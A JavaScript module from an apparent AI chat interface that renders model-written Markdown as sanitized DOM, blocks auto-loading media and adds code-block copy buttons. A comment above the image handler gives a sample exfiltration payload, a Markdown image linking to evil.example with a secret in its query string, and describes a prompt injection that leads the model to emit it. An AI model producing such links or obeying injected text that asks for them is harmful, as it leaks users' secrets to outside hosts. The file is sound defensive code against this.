// Markdown to safe DOM. Model text only reaches the page as marked's HTML sanitized by DOMPurify
// (returned as a DocumentFragment, so no innerHTML of model output anywhere).
//
// createMarkdownView(root) renders a growing answer: finished top-level blocks are appended once
// and kept; only the unfinished last block is rebuilt on each update.

import { marked } from "../../vendor/marked/marked.esm.js";
import DOMPurify from "../../vendor/dompurify/purify.es.mjs";
import { closeOpenMarkers, createBlockSplitter } from "./blocks.js";

const PURIFY_CONFIG = {
  USE_PROFILES: { html: true },
  // Nothing in model output may make the browser fetch on its own (a prompt injection could put
  // secrets in the URL): media elements go, and so do attributes that load images.
  FORBID_TAGS: [
    "style", "form", "input", "button", "textarea", "select", "option", "iframe", "dialog",
    "video", "audio", "source", "track", "picture",
  ],
  FORBID_ATTR: ["style", "autofocus", "srcset", "background", "poster", "ping"],
  SANITIZE_NAMED_PROPS: true,
  RETURN_DOM_FRAGMENT: true,
};

let hooksInstalled = false;

function installHooks() {
  if (hooksInstalled) return;
  hooksInstalled = true;
  DOMPurify.addHook("afterSanitizeAttributes", (node) => {
    if (node.tagName === "A" && node.hasAttribute("href")) {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer");
    }
  });
}

/** Markdown source -> sanitized DocumentFragment, with code blocks given a header and copy button. */
export function renderMarkdown(source) {
  installHooks();
  const html = marked.parse(source, { async: false, gfm: true, breaks: false });
  const fragment = DOMPurify.sanitize(html, PURIFY_CONFIG);
  replaceImages(fragment);
  decorateCodeBlocks(fragment);
  return fragment;
}

/**
 * No image from model output loads by itself: an image would be fetched with no click, and a
 * prompt injection can make the model write `![x](https://evil.example/?q=<secret>)`. Each <img>
 * becomes a link ("🖼 alt", or the URL when there is no alt) that opens the image only when
 * clicked; one that is not absolute http(s), or sits inside a link already, becomes plain text.
 * The fragment still belongs to DOMPurify's inert document here, so the <img> never fetched.
 */
function replaceImages(fragment) {
  for (const img of fragment.querySelectorAll("img")) {
    const src = (img.getAttribute("src") || "").trim();
    const alt = (img.getAttribute("alt") || "").trim();
    const label = `🖼 ${alt || src || "image"}`;
    if (!/^https?:\/\//i.test(src) || img.closest("a")) {
      img.replaceWith(document.createTextNode(alt ? label : ""));
      continue;
    }
    const link = document.createElement("a");
    link.className = "md-image-link";
    link.href = src;
    link.target = "_blank";
    link.rel = "noopener noreferrer";
    link.title = `Open image: ${src}`;
    link.textContent = label;
    img.replaceWith(link);
  }
}

/** Wrap each <pre><code> in a box with its language and a Copy button. */
function decorateCodeBlocks(fragment) {
  for (const pre of fragment.querySelectorAll("pre")) {
    const code = pre.querySelector("code");
    const lang = code ? languageOf(code) : "";
    const box = document.createElement("div");
    box.className = "code-block";
    const head = document.createElement("div");
    head.className = "code-head";
    const label = document.createElement("span");
    label.textContent = lang || "code";
    const button = document.createElement("button");
    button.type = "button";
    button.className = "btn btn-ghost code-copy";
    button.textContent = "Copy";
    button.setAttribute("aria-label", `Copy ${lang || "code"} block`);
    head.append(label, button);
    pre.replaceWith(box);
    box.append(head, pre);
  }
}

function languageOf(code) {
  const cls = [...code.classList].find((c) => c.startsWith("language-"));
  return cls ? cls.slice("language-".length) : "";
}

/** A view that keeps finished blocks and re-renders only the last, open one. */
export function createMarkdownView(root) {
  const splitter = createBlockSplitter((text) => marked.lexer(text, { gfm: true }));
  let liveEl = null;
  let blockRenders = 0;

  function update(source, { final = false } = {}) {
    const normalized = source.replace(/\r\n?/g, "\n");
    const { blocks, live } = splitter.update(normalized, final);
    for (const raw of blocks) root.insertBefore(blockElement(raw, false), liveEl);
    if (live) {
      const fresh = blockElement(closeOpenMarkers(live), true);
      if (liveEl) liveEl.replaceWith(fresh);
      else root.append(fresh);
      liveEl = fresh;
    } else if (liveEl) {
      liveEl.remove();
      liveEl = null;
    }
    return { blocks: blocks.length, live: Boolean(live) };
  }

  function blockElement(raw, isLive) {
    blockRenders += 1;
    const el = document.createElement("div");
    el.className = isLive ? "md-block md-live" : "md-block";
    el.append(renderMarkdown(raw));
    return el;
  }

  function clear() {
    splitter.reset();
    root.replaceChildren();
    liveEl = null;
  }

  return { update, clear, get blockRenders() { return blockRenders; } };
}
